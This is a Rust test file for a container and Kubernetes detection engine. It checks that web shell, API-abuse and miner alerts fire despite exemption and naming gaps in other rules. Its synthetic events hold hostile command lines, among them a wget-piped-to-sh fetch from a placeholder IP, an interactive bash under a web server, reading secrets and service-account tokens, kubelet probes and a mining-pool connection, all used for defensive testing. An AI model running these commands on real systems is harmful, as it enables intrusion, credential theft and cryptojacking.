//! What other agents' rules let through by their own words, a row each: names, exemptions and lists that an attacker may
//! choose. Those that `web_shell` shows with real servers are not repeated.
//!
//! What is no rule's stands elsewhere: a container's privilege that its runtime tells late or not at all in `privileged`, what
//! stood before the agent there and in `scan`, tables that grow for ever in the unit tests of each (`…is_bounded`).

use serde_json::{Value, json};

use crate::{
    ocsf::{brief, fact, level, title},
    replay::alerts_of,
};

const API: &str = "Suspicious request to Kubernetes API";
const MINER: &str = "Container with a miner image detected";
const SHELL: &str = "Web shell detected";
const SCORE: &str = "score.kubernetes-api";

/// Whose hole it is, what goes through it, and what rings here.
type Row = (&'static str, fn() -> Vec<Value>, &'static str);

const HOLES: [Row; 13] = [
    (
        "a list of servers without php-fpm8.2",
        || below("/usr/sbin/php-fpm8.2", &["sh -c id; uname -a"]),
        SHELL,
    ),
    (
        "a list of servers without node",
        || below("/usr/bin/node", &["sh -c id; uname -a"]),
        SHELL,
    ),
    (
        "a list of servers without Java, Ruby or what the site's owner wrote",
        || below("/srv/shop/bin/shop", &["sh -c id; uname -a"]),
        SHELL,
    ),
    (
        "an exemption of command lines that begin with sh -c /usr/bin",
        || {
            below(
                "/usr/sbin/nginx",
                &["sh -c /usr/bin/id; /usr/bin/wget -qO- 203.0.113.7 | sh"],
            )
        },
        SHELL,
    ),
    (
        "an exemption of command lines that hold healthcheck",
        || below("/usr/sbin/nginx", &["sh -c id; : healthcheck"]),
        SHELL,
    ),
    (
        "an exemption of command lines that hold status",
        || below("/usr/sbin/nginx", &["sh -c ps aux; : status"]),
        SHELL,
    ),
    (
        "three ancestors are looked at",
        || {
            let through = ["sh /srv/a", "sh /srv/b", "sh /srv/c", "sh /srv/d", "sh -c id; whoami"];
            below("/usr/sbin/nginx", &through)
        },
        SHELL,
    ),
    (
        "eleven tools are looked for, and a shell is none",
        || below("/usr/sbin/apache2", &["bash -i"]),
        SHELL,
    ),
    (
        "whatever is called kubectl may ask the API",
        || {
            vec![request(
                "/usr/local/bin/kubectl",
                "kubectl get secrets",
                443,
                "kubernetes-api",
            )]
        },
        API,
    ),
    (
        "whatever is called coredns may ask the API",
        || vec![request("/opt/coredns", "coredns", 443, "kubernetes-api")],
        API,
    ),
    (
        "the API is one name, and a socket that was sent to an endpoint's address is not asked for",
        || {
            vec![request(
                "/usr/bin/curl",
                "curl -k https://192.0.2.10:6443/api/v1/pods",
                6443,
                "kubernetes-api",
            )]
        },
        API,
    ),
    (
        "the kubelet is not asked for",
        || {
            vec![request(
                "/usr/bin/curl",
                "curl -k https://192.0.2.10:10250/pods",
                10250,
                "kubelet",
            )]
        },
        API,
    ),
    (
        "miners are known by their programs' names",
        || vec![pool("/usr/sbin/crond")],
        MINER,
    ),
];

#[test]
fn nothing_goes_through_the_holes_of_others() {
    for (hole, events, wanted) in HOLES {
        let alerts = replay(&events());
        let titles: Vec<_> = alerts.iter().map(title).collect();
        assert!(titles.contains(&wanted), "{hole}: {titles:?}");
        // One of them tags requests to the API as manipulated data.
        let tags = alerts[0].to_string();
        assert!(!tags.contains("T1565"), "{hole}: {}", brief(&alerts[0]));
    }
}

#[test]
fn a_name_earns_nothing_at_the_api() {
    // Of the image itself, which never did so before: all that differs is what the program is called.
    let verdict = |program: &str| {
        let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
        let command = format!("x --token-file {token} /api/v1/pods");
        let mut asks = request(program, &command, 443, "kubernetes-api");
        for (name, value) in [
            ("baseline.state", json!("new")),
            ("container.image_digest", json!("sha256:5f")),
            ("process.exe_kind", Value::Null),
        ] {
            asks[name] = value;
        }
        let alerts = replay(&[asks]);
        let said = |alert: &Value| {
            (
                title(alert).to_owned(),
                level(alert).to_owned(),
                fact(alert, "matched")[SCORE].clone(),
            )
        };
        alerts.iter().map(said).collect::<Vec<_>>()
    };
    let nameless = verdict("/x");
    assert_eq!(nameless.len(), 1, "{nameless:?}");
    assert_eq!(nameless[0].0, API);
    assert!(nameless[0].2.is_number(), "{nameless:?}");
    for name in [
        "/coredns",
        "/opt/kube-proxy",
        "/usr/bin/kubelet",
        "/cilium-agent",
        "/manager",
    ] {
        assert_eq!(verdict(name), nameless, "{name}");
    }
    // A tool's name earns more.
    let kubectl = verdict("/usr/local/bin/kubectl");
    assert!(kubectl[0].2.as_i64() > nameless[0].2.as_i64(), "{kubectl:?}");
}

#[test]
fn the_same_is_silent_where_it_belongs() {
    // Who logs in below the same programs' names, but below no server.
    let login = [
        exec(100, 1, "/usr/sbin/sshd", "sshd: ada [priv]"),
        exec(101, 100, "/usr/bin/bash", "-bash"),
        exec(102, 101, "/usr/bin/dash", "sh -c id; uname -a; : healthcheck status"),
    ];
    let learned = [
        ("baseline.state", json!("known")),
        ("container.image_digest", json!("sha256:5f")),
        ("process.exe_kind", Value::Null),
    ];
    let mut operator = request(
        "/coredns",
        "/coredns -conf /etc/coredns/Corefile",
        443,
        "kubernetes-api",
    );
    for (name, value) in learned {
        operator[name] = value;
    }
    for events in [&login[..], &[operator]] {
        let alerts = replay(events);
        assert_eq!(alerts.iter().map(brief).collect::<Vec<_>>(), [] as [String; 0]);
    }
}

/// A server that listens on port 80, and below it a line of programs, each by its command line.
fn below(server: &str, line: &[&str]) -> Vec<Value> {
    let listens = json!({
        "category": "network_listen", "ProcessId": 100, "process.start": 100, "Image": server,
        "SourceIp": "0.0.0.0", "SourcePort": 80,
    });
    let mut events = vec![exec(100, 1, server, server), listens];
    for (number, command) in line.iter().enumerate() {
        let program = format!("/usr/bin/{}", command.split(' ').next().unwrap_or_default());
        let pid = 101 + number as u32;
        events.push(exec(pid, pid - 1, &program, command));
    }
    events
}

fn exec(pid: u32, parent: u32, program: &str, command: &str) -> Value {
    json!({
        "category": "process_creation", "Image": program, "CommandLine": command, "process.uid": 33,
        "ProcessId": pid, "process.start": pid, "ParentProcessId": parent, "process.parent_start": parent,
    })
}

/// A program that was brought into a container asks the control plane.
fn request(program: &str, command: &str, port: u16, role: &str) -> Value {
    json!({
        "category": "network_connection", "Initiated": true, "DestinationIp": "192.0.2.10", "DestinationPort": port,
        "destination.role": role, "Image": program, "CommandLine": command, "container.id": "f00d",
        "process.exe_kind": ["upper-layer"],
    })
}

/// A container asks a pool for work.
fn pool(program: &str) -> Value {
    json!({
        "category": "network_connection", "Initiated": true, "DestinationIp": "203.0.113.7", "DestinationPort": 443,
        "DestinationHostname": "pool.supportxmr.com", "Image": program, "CommandLine": "crond -f",
        "container.id": "f00d", "container.image": "registry.example/cron:3",
    })
}

/// The alerts that these events raise, each a second after the one before.
fn replay(events: &[Value]) -> Vec<Value> {
    let timed = events.iter().enumerate().map(|(second, event)| {
        let mut event = event.clone();
        event["time"] = second.into();
        event
    });
    alerts_of(&timed.collect::<Vec<_>>(), &[])
}
